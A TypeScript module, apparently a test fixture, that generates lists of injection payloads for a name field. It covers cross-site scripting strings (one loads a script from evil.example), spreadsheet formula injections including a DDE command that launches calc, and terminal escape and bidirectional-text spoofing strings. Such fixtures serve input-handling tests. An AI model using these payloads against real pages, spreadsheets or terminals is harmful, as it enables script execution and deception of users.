/** Attacks that a name may carry, put together from what is run, where it stands, and how it is hidden. */

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1)>',
  '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '{{7*7}}',
  '${alert(1)}',
  '<template><script>alert(1)</script></template>',
];
/** Each ends another place of a page than text. */
const BREAKS = ['', '"><', "' autofocus onfocus=alert(1) x='", '</title></script></textarea>-->'];

/** 60 texts that run in a careless page. */
export const XSS_PAYLOADS: readonly string[] = BREAKS.flatMap((before) =>
  SCRIPTS.map((script) => before + script),
);

const FORMULAS = ['1+1', 'HYPERLINK("http://evil.example")', 'cmd|"/C calc"!A0', 'SUM(A1:A9)'];
const SIGNS = ['=', '+', '-', '@', '\uff1d'];
const HIDDEN_BY = ['', '\t', '\u200b'];

/** 60 texts that a careless spreadsheet runs. */
export const FORMULA_PAYLOADS: readonly string[] = HIDDEN_BY.flatMap((hidden) =>
  SIGNS.flatMap((sign) => FORMULAS.map((formula) => hidden + sign + formula)),
);

/** Texts that a careless terminal obeys. */
export const TERMINAL_PAYLOADS: readonly string[] = [
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u009b31m',
  'a\u202egnp.exe',
  'a\nERROR all reports lost',
  'a\r\nb',
  '\u2066a\u2069',
  'a\u2028b',
];
